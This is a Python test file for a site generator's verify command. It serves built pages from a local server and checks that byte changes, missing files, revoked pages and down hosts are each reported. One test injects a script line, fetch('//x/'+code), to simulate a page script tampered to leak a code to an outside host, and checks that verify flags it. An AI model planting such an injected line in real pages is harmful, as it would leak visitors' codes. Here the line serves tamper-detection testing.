"""Verify: a copy that differs in one byte is told, and one that changed the script is told apart."""

from __future__ import annotations

import gzip
import http.server
import shutil
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from generator.claims import is_sealed
from generator.verify import Compared, Folder, Host, State, verify
from tests.test_keys import PRIVATE, Practice, practice, with_key

__all__ = ["practice"]
Tamper = Callable[[str, bytes], bytes]


@pytest.fixture
def made(practice: Practice) -> Practice:
    with_key(practice)
    practice.run("build")
    return practice


@contextmanager
def a_host(site: Path, tamper: Tamper = lambda path, data: data, encoding: str = "") -> Iterator[str]:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            file = site / self.path.lstrip("/")
            file = file / "index.html" if file.is_dir() else file
            if not file.is_file():
                self.send_error(404)
                return
            data = tamper(self.path, file.read_bytes())
            self.send_response(200)
            if encoding:
                data = gzip.compress(data)
                self.send_header("Content-Encoding", encoding)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *arguments: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def states(found: tuple[Compared, ...]) -> set[State]:
    return {one.state for one in found}


def quietly(_done: int, _of: int) -> None:
    pass


@pytest.mark.parametrize("encoding", ["", "gzip"])
def test_a_host_that_serves_what_was_built_is_found_in_order(made: Practice, encoding: str) -> None:
    with a_host(made.root / "site", encoding=encoding) as address:
        found = verify(made.root, Host(address), quietly)
        said = made.run("verify", address)

    assert states(found) == {State.SAME}
    assert {"index.html", "404.html", "robots.txt"} < {one.path for one in found}
    assert made.code == 0
    assert "All 7 files are as they were built" in said


def test_a_script_changed_on_the_way_is_an_alarm(made: Practice) -> None:
    def tamper(path: str, data: bytes) -> bytes:
        return data.replace(b"const link=await linkOf(code);", b"fetch('//x/'+code);") if "/p/" in path else data

    with a_host(made.root / "site", tamper) as address:
        found = verify(made.root, Host(address), quietly)
        said = made.run("verify", address)

    assert [one.state for one in found if is_sealed(one.path)] == [State.FRAME_CHANGED]
    assert made.code == 1
    assert "script" in said


def test_a_single_byte_is_seen(made: Practice, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(made.root / "site", copy)
    assert states(verify(made.root, Folder(copy), quietly)) == {State.SAME}
    page = next((copy / "p").glob("*/index.html"))
    data = bytearray(page.read_bytes())
    data[data.index(b'id="sealed">') + 100] ^= 1
    page.write_bytes(data)
    (copy / "robots.txt").unlink()

    assert states(verify(made.root, Folder(copy), quietly)) == {State.SAME, State.CHANGED, State.MISSING}


def test_a_dead_page_that_still_stands_is_told(made: Practice, tmp_path: Path) -> None:
    copy = tmp_path / "copy"
    shutil.copytree(made.root / "site", copy)
    made.run("revoke", str(made.root / "plans/sam.yml"), "--yes")
    with a_host(copy) as address:
        on_host = verify(made.root, Host(address), quietly)
    in_folder = verify(made.root, Folder(copy), quietly)

    assert State.STILL_THERE in states(on_host)
    assert State.STILL_THERE in states(in_folder)


def test_a_host_that_is_down_is_told_as_that(made: Practice) -> None:
    with a_host(made.root / "site") as address:
        pass

    assert states(verify(made.root, Host(address), quietly)) == {State.OUT_OF_REACH}
    assert "out of reach" in made.run("verify", address)
    assert made.code == 1


def test_no_name_is_in_what_is_said(made: Practice) -> None:
    (made.root / "plans/okafor.yml").write_text(PRIVATE.replace("5f0c", "aaaa"), "utf-8")
    made.run("build")
    with a_host(made.root / "site", lambda _path, data: data + b" ") as address:
        said = made.run("verify", address)

    assert "okafor" not in said
    assert "sam" not in said
